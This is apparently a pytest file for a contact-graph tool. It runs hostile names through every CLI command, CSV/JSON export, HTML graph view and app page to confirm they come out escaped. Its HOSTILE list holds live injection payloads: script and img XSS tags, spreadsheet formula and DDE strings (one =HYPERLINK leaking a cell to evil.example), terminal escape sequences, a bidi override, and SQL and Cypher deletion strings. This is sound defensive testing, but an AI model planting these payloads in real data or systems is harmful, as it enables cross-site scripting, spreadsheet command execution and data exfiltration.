"""Output safety: hostile names through every output path (SECURITY.md, "Untrusted text").

Names, companies and titles come from other people's exports. A workspace is built whose
people, companies and titles are the hostile strings below (script and image tags, spreadsheet
formulas, ANSI colour and title-bar escapes, a bidirectional override, NUL, C1 controls, line
separators, a very long name, emoji, quotes and backslashes, Cypher- and SQL-looking text,
Markdown links and images), and every command of the command line is run on it, as text and
as JSON; then the batch export files, the graph view's HTML and the app's pages.

What must hold, per output (`graph.escape` does all of it):

* terminal text: no control character but the line feed, no escape sequence, no
  bidirectional control (`graph.escape.UNSAFE_CHARS`), on stdout and on stderr;
* JSON: parses back to each person's name exactly as the workspace stores it, with no raw
  control character either (they are ``\\uXXXX`` escapes);
* CSV: no cell starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return; JSON Lines: exact;
* the graph view: no tag, quote or control character from the data in the page outside its
  JSON data block, which holds no ``<`` at all;
* the app: names shown as text (Markdown-escaped), the answers equal to the library's.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path

import click
import pytest
import streamlit as st
from click.testing import CliRunner
from streamlit.testing.v1 import AppTest

from graph.cli import cli
from graph.escape import UNSAFE_CHARS, markdown
from graph.explorer import Explorer
from graph.model import Interaction, Person, Provenance
from graph.viz import paths_graph, render_graph
from graph.workspace import Workspace

HOSTILE = [
    "<script>alert('x')</script> Ames",
    '<img src=x onerror="alert(1)"> Brook',
    '=HYPERLINK("http://evil.example/?q="&A1,"Click") Cole',
    "+cmd|' /C calc'!A0 Dunn",
    "-2+3*cmd|' /C calc'!A0 Eddy",
    "@SUM(1+1)*cmd|' /C calc'!A0 Finn",
    "\t=1+1 Tabbed Gray",
    "\r=1+1 Carriage Hale",
    "Red \x1b[31mAlert\x1b[0m Ives",
    "Title \x1b]0;pwned\x07 Setter Jones",
    "Bidi \u202eexe.evil\u202c Kent",
    "Nul\x00Byte Lowe",
    "Very Long " + "Name" * 600 + " Moss",
    "Emoji 🚀👩\u200d💻 Zoë Ünïcødé Nash",
    "Quote \"double\" 'single' back\\slash \\\\ Orr",
    "Robert'); DROP TABLE people;-- Pike",
    "x' OR '1'='1 Quinn",
    "'}) MATCH (n) DETACH DELETE n // Reed",
    "![img](http://evil.example/a.png) [link](javascript:alert(1)) **bold** Shaw",
    ":red[alarm] $x^2$ <b>html</b> Todd",
    "C1 \x9b31m Control \x85 NEL Upton",
    "Line\u2028Separator\nNewline Vance",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
OWNER = "Mia Rep <mia@ourco.example>"
PEER = "Noor Rep <noor@ourco.example>"
APP = str(Path(__file__).resolve().parents[1] / "app.py")


def _company(i: int) -> str:
    return HOSTILE[(i + 1) % len(HOSTILE)]


def hostile_records(*, moved: bool = False) -> list:
    """Mia's export: the hostile people at hostile companies with hostile titles, each
    messaged by Mia (recently for some, long ago for others: follow-ups and dormant ties), in
    a chain of messages among themselves. With `moved`, the second export of the same source,
    in which every third person has a new company and title (job moves for `changes`)."""
    now = datetime.now(UTC).replace(tzinfo=None)
    me = Person(name="Mia Rep", emails=("mia@ourco.example",), is_owner=True)
    people = []
    for i, name in enumerate(HOSTILE):
        company, title = _company(i), "VP " + HOSTILE[(i + 2) % len(HOSTILE)]
        if moved and i % 3 == 0:
            company, title = HOSTILE[(i + 5) % len(HOSTILE)], HOSTILE[(i + 7) % len(HOSTILE)]
        people.append(Person(name=name, company=company, title=title, emails=(f"h{i}@hostile.example",),
                             linkedin_url=f"https://www.linkedin.com/in/hostile-{i}"))  # fmt: skip
    prov = Provenance("linkedin", "messages.csv", 2)
    recs: list = [me, *people]
    for i, p in enumerate(people):
        age = 5 + i if i % 2 else 400 + 10 * i
        recs += [Interaction(me if j % 2 else p, p if j % 2 else me, "message", now - timedelta(days=age + 7 * j),
                             provenance=prov) for j in range(2 + i % 4)]  # fmt: skip
        if i + 1 < len(people):
            recs.append(Interaction(p, people[i + 1], "message", now - timedelta(days=3 + i), provenance=prov))
    return recs


def peer_records() -> list:
    """Noor's export: connections to every fourth hostile person (a second rep on the team)."""
    me = Person(name="Noor Rep", emails=("noor@ourco.example",), is_owner=True)
    at = datetime(2024, 3, 1)
    return [Interaction(me, Person(name=n, emails=(f"h{i}@hostile.example",)), "connected", at, directed=False)
            for i, n in enumerate(HOSTILE) if i % 4 == 0]  # fmt: skip


@pytest.fixture(scope="module")
def hostile_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile workspace (three imports: Mia twice, Noor once); tests copy it to change it."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.db"
    with Workspace.open(path) as ws:
        ws.import_records(hostile_records(), label="mia-1.zip", format="linkedin", digest="m1", owner=OWNER)
        ws.import_records(peer_records(), label="noor.zip", format="linkedin", digest="n1", owner=PEER)
        ws.import_records(hostile_records(moved=True), label="mia-2.zip", format="linkedin", digest="m2",
                          owner=OWNER)  # fmt: skip
    return path


@pytest.fixture(scope="module")
def stored(hostile_ws: Path) -> dict[str, str]:
    """Every person's name as the workspace stores it, by public id."""
    with Workspace.open(hostile_ws, readonly=True) as ws:
        return {p.id: p.name for p in ws.people()}


@pytest.fixture(scope="module")
def ids(hostile_ws: Path) -> list[str]:
    """The public ids of the hostile people, in the order of `HOSTILE`."""
    with Workspace.open(hostile_ws, readonly=True) as ws:
        return [f"p{ws.find_person(f'h{i}@hostile.example')}" for i in range(len(HOSTILE))]


@pytest.fixture(scope="module")
def targets(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A target list of hostile companies and people (csv quoting; NUL is no CSV text)."""
    path = tmp_path_factory.mktemp("targets") / "targets.csv"
    buf = io.StringIO(newline="")
    w = csv.writer(buf)
    w.writerow(["company", "name", "title"])
    for i, name in enumerate(HOSTILE):
        if "\x00" not in name:
            w.writerow([_company(i) if "\x00" not in _company(i) else "", "", ""])
            w.writerow(["", name, ""])
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def test_the_workspace_keeps_every_hostile_name_as_given(stored, ids):
    """Names are stored as written, but for surrounding white space (which the import trims:
    the leading tab and carriage return go there, the formula after them stays)."""
    assert [stored[i] for i in ids] == [h.strip() for h in HOSTILE]


# ---------------------------------------------------------------------- the command line
def invocations(ids: list[str], targets: Path, out: Path) -> dict[str, list[list[str]]]:
    """For each command, the argument lists to run (each as text and, with --json, as JSON)
    on the hostile workspace; commands that change it run on a copy."""
    script, long, nul, bidi = ids[0], ids[12], ids[11], ids[10]
    return {
        "people": [[], ["hostile"], [ids[8]]],
        "stats": [[]],
        "intro": [[script, "--team"], [long, "--from", "Mia Rep"], [nul, "--team", "--why-not", "Noor Rep"],
                  [_company(2), "--company", "--team"], [bidi, "--as", "Noor Rep"]],
        "intros": [["--targets", targets, "--out", out / "intros.csv", "--team"],
                   ["--targets", targets, "--out", out / "intros.jsonl", "--from", "Mia Rep"]],
        "followups": [[], ["--due", "--owner", "Mia Rep"]],
        "plan": [["--targets", targets, "--team"]],
        "changes": [[], ["--targets", targets, "--team"]],
        "reach": [["--team", "--min-group", "1"], ["--from", "Mia Rep", "--targets", targets, "--min-group", "1"]],
        "weak-ties": [["--team"], ["--from", "Mia Rep", "--idle-days", "30"]],
        "merges": [[], [script]],
        "cadence": [[script, "--bucket", "A"], [long, "--bucket", "auto", "--owner", "Mia Rep"]],
        "merge": [[ids[1], ids[2]]],
        "unmerge": [[ids[1]]],
        "sharing": [[], [ids[3], "--owner", "Mia Rep", "--level", "ask"]],
        "forget": [[ids[4], "--yes"]],
    }  # fmt: skip


#: Commands run elsewhere, and why.
NOT_HERE = {
    "load": "test_load_reports_hostile_rows_safely (its own exports)",
    "demo": "test_demo_output_is_safe (its own workspace; the demo has hostile names too)",
    "app": "starts a server: the pages are run with AppTest below",
    "sync neo4j": "prints counts and the server's address only; hostile names on Neo4j: "
                  "tests/graph/test_neo4j_store.py::test_hostile_names_round_trip_unchanged",
}  # fmt: skip


def all_commands() -> list[str]:
    names = []
    for name, command in cli.commands.items():
        if isinstance(command, click.Group):
            names += [f"{name} {sub}" for sub in command.commands]
        else:
            names.append(name)
    return sorted(names)


def test_every_command_is_covered(tmp_path):
    """A new command must be added to `invocations` (or to `NOT_HERE`, with the reason)."""
    covered = set(invocations(["p1"] * len(HOSTILE), tmp_path, tmp_path)) | set(NOT_HERE)
    assert set(all_commands()) <= covered, set(all_commands()) - covered


def person_dicts(obj: object):  # noqa: ANN201 - an iterator of dicts
    """Every dict in a JSON value that names a person: an ``id`` like ``p12`` and a ``name``."""
    if isinstance(obj, dict):
        if isinstance(obj.get("id"), str) and re.fullmatch(r"p\d+", obj["id"]) and "name" in obj:
            yield obj
        for v in obj.values():
            yield from person_dicts(v)
    elif isinstance(obj, list):
        for v in obj:
            yield from person_dicts(v)


def check_text(result, where: str) -> None:  # noqa: ANN001 - a click.testing.Result
    for stream, text in (("stdout", result.stdout), ("stderr", result.stderr)):
        bad = UNSAFE_CHARS.search(text)
        assert bad is None, (where, stream, repr(text[max(0, bad.start() - 40) : bad.end() + 40]))


def check_json(result, stored: dict[str, str], where: str) -> int:  # noqa: ANN001
    """JSON with no raw control character, whose person names equal the stored names;
    returns how many hostile-name persons it shows."""
    check_text(result, where)
    data = json.loads(result.stdout)
    hostile = {h.strip() for h in HOSTILE}
    n = 0
    for d in person_dicts(data):
        if d["id"] in stored and d["name"] is not None:
            assert d["name"] == stored[d["id"]], (where, d["id"], d["name"][:80])
            n += d["name"] in hostile
    return n


@pytest.fixture
def hostile_copy(hostile_ws: Path, tmp_path: Path) -> Path:
    path = tmp_path / "copy.db"
    shutil.copy(hostile_ws, path)
    return path


def test_every_command_prints_hostile_names_safely(hostile_ws, hostile_copy, stored, ids, targets, tmp_path):
    """Each invocation as text (no unsafe character on stdout or stderr) and as JSON (the same,
    and every person's name exact); read-only commands on the shared workspace, the others on
    a copy, in order (merge before unmerge, forget last). Most show hostile names in JSON."""
    changes = {"cadence", "merge", "unmerge", "sharing", "forget"}
    shown: dict[str, int] = {}
    runner = CliRunner()
    for command, arg_lists in invocations(ids, targets, tmp_path).items():
        ws = hostile_copy if command in changes else hostile_ws
        for args in arg_lists:
            for as_json in (False, True):
                if as_json and command in changes:  # the change is made once, as text
                    continue
                argv = [*command.split(), *map(str, args), "--workspace", str(ws)] + (["--json"] if as_json else [])
                r = runner.invoke(cli, argv)
                where = " ".join(argv)[:200]
                assert r.exit_code == 0, (where, r.output[-1000:], r.exception)
                if as_json:
                    shown[command] = shown.get(command, 0) + check_json(r, stored, where)
                else:
                    check_text(r, where)
    for command in ("people", "intro", "intros", "followups", "reach", "weak-ties", "plan", "changes"):
        assert shown.get(command, 0) > 0 or command == "intros", (command, shown)


def test_intros_files_are_formula_safe_and_exact(hostile_ws, stored, targets, tmp_path):
    """The batch file as CSV: no cell starts with a formula character (those that would are
    prefixed with an apostrophe, the rest of the cell unchanged); as JSON Lines: the names
    exact. Both list the same rows."""
    run = lambda out: CliRunner().invoke(cli, ["intros", "--targets", str(targets), "--out", str(out),  # noqa: E731
                                               "--team", "--workspace", str(hostile_ws)])  # fmt: skip
    assert run(tmp_path / "out.csv").exit_code == 0
    assert run(tmp_path / "out.jsonl").exit_code == 0
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    lines = [json.loads(x) for x in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(rows) == len(lines) > len(HOSTILE)
    assert not UNSAFE_CHARS.search((tmp_path / "out.jsonl").read_text(encoding="utf-8").replace("\n", ""))
    for row, line in zip(rows, lines, strict=True):
        for key, cell in row.items():
            assert not cell.startswith(FORMULA_START), (key, cell[:80])
            value = line.get(key)
            if isinstance(value, str) and value.startswith(FORMULA_START):
                assert cell == "'" + value
            elif isinstance(value, str):
                assert cell == value
        if line.get("introducer_id") in stored:
            assert line["introducer"] == stored[line["introducer_id"]]
        if line.get("path_ids"):
            assert line["path"] == [stored[i] for i in line["path_ids"]]
    hostile = {h.strip() for h in HOSTILE}
    assert hostile & {n for line in lines for n in line.get("path") or []}


def test_load_reports_hostile_rows_safely(tmp_path):
    """`tiegraph load` of a LinkedIn Connections.csv with hostile names, companies and a
    hostile date (a skipped row whose reason quotes the cell): text and JSON are safe."""
    rows = [["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"]]
    for i, h in enumerate(HOSTILE):
        if "\x00" not in h:
            rows.append([h, f"Last{i}", f"https://www.linkedin.com/in/load-{i}", "", _company(i), h, "03 Feb 2021"])
    rows.append(["Bad", "Date", "https://www.linkedin.com/in/bad-date", "", "Acme", "CTO", "\x1b[31m=1+1\u202e"])
    buf = io.StringIO(newline="")
    csv.writer(buf).writerows(rows)
    export = tmp_path / "Connections.csv"
    export.write_text(buf.getvalue(), encoding="utf-8")
    for as_json in (False, True):
        ws = tmp_path / f"load-{as_json}.db"
        r = CliRunner().invoke(cli, ["load", str(export), "--owner", OWNER, "--workspace", str(ws)]
                               + (["--json"] if as_json else []))  # fmt: skip
        assert r.exit_code == 0, r.output
        check_text(r, f"load json={as_json}")
        if as_json:
            report = json.loads(r.stdout)["imports"][0]
            assert report["records"] >= len(rows) - 1 and len(report["skipped"]) == 1
        else:
            assert "skipped" in r.output


def test_demo_output_is_safe(tmp_path):
    """`tiegraph demo` (its bundled data has hostile names too), as text and as JSON."""
    for as_json in (False, True):
        r = CliRunner().invoke(cli, ["demo", "--workspace", str(tmp_path / f"d{as_json}.db")]
                               + (["--json"] if as_json else []))  # fmt: skip
        assert r.exit_code == 0, r.output[-1000:]
        check_text(r, f"demo json={as_json}")
        if as_json:
            assert json.loads(r.stdout)["first_intro"]["paths"]


def test_errors_quoting_hostile_input_are_safe(hostile_ws):
    """Names that are not found (and so are quoted in the error) print safely, on stderr and
    in the one JSON line under --json."""
    from graph.cli import main

    for as_json in (False, True):
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err), pytest.raises(SystemExit) as e:
            main(["intro", "Nobody \x1b]0;pwned\x07 \u202e", "--workspace", str(hostile_ws)]
                 + (["--json"] if as_json else []))  # fmt: skip
        assert e.value.code == 4
        for text in (out.getvalue(), err.getvalue()):
            assert UNSAFE_CHARS.search(text) is None, repr(text)
        if as_json:
            assert json.loads(out.getvalue())["type"] == "NotFound"


# ---------------------------------------------------------------------- the graph view
def test_graph_view_holds_no_markup_from_the_data(hostile_ws, ids):
    """The HTML page of hostile paths: its JSON data block has no ``<`` (so no tag and no end
    of the script), labels and tooltips have no control characters, and no data string is in
    the page outside that block."""
    with Explorer.open(hostile_ws) as ex:
        paths = [p for i in ids[:12] for p in ex.intro(i, team=True, k=2).paths]
    view = render_graph(paths_graph(paths), sources=[paths[0].path[0]["id"]])
    assert view.nodes >= 10
    start = view.html.index('<script type="application/json" id="tg-data">') + len(
        '<script type="application/json" id="tg-data">')  # fmt: skip
    block = view.html[start : view.html.index("</script>", start)]
    assert "<" not in block and ">" not in block and "&" not in block
    data = json.loads(block)
    for item in data["nodes"] + data["edges"]:
        for key in ("label", "title"):
            if key in item:
                assert UNSAFE_CHARS.search(item[key].replace("\n", "")) is None, item[key][:80]
    page = view.html[:start] + view.html[start + len(block) :]
    for h in HOSTILE:
        for piece in ("<script>alert", "<img src=x", "<b>html", "javascript:alert", "\x1b", "\u202e", "pwned"):
            if piece in h:
                assert piece not in page, piece


# ---------------------------------------------------------------------- the app
@pytest.fixture
def hostile_app(hostile_copy: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TIEGRAPH_WORKSPACE", str(hostile_copy))
    st.cache_resource.clear()
    st.cache_data.clear()
    yield hostile_copy
    st.cache_resource.clear()
    st.cache_data.clear()


_MD_UNESCAPED = re.compile(r"(?<!\\)[<>\[\]`$]")


def shown_texts(at: AppTest) -> list[str]:
    """Every Markdown-rendered text of the page (titles, headings, text, captions, alerts)."""
    kinds = ("title", "header", "subheader", "markdown", "caption", "info", "warning", "error", "success")
    return [e.value for kind in kinds for e in getattr(at, kind)]


def check_page(at: AppTest, where: str) -> None:
    assert not at.exception, (where, at.exception)
    for text in shown_texts(at):
        assert UNSAFE_CHARS.search(text) is None, (where, text[:120])
        stripped = text.replace("\\\\", "")
        assert _MD_UNESCAPED.search(stripped) is None, (where, text[:160])
    for t in at.text:  # st.text: plain text, shown as is
        assert UNSAFE_CHARS.search(t.value.replace("\n", "")) is None, (where, t.value[:120])


@pytest.mark.parametrize("who", [0, 2, 8, 12, 18])
def test_find_page_shows_hostile_names_as_text(hostile_app, ids, stored, who):
    """Search each of a few hostile people by email on the Find page: the result is the
    library's, and every name reaches the page Markdown-escaped (no tag, link, image, code or
    formula from the data; no control character)."""
    with Explorer.open(hostile_app) as ex:
        expected = ex.intro(ids[who], team=True)
    at = AppTest.from_file(APP, default_timeout=60).run()
    at.text_input(key="q").input(f"h{who}@hostile.example")
    at.radio(key="from").set_value("the team")
    at.run()
    check_page(at, f"find {who}")
    assert at.session_state["intro_result"] == expected.to_dict()
    name = stored[ids[who]]
    assert any(markdown(name) in t for t in shown_texts(at))


@pytest.mark.parametrize("page", ["ui/weak_ties.py", "ui/reach.py", "ui/followups.py", "ui/imports.py"])
def test_other_pages_show_hostile_names_as_text(hostile_app, page):
    at = AppTest.from_file(APP, default_timeout=60).run()
    check_page(at, "home")
    at.switch_page(page).run()
    check_page(at, page)
    assert not at.error, [e.value for e in at.error]
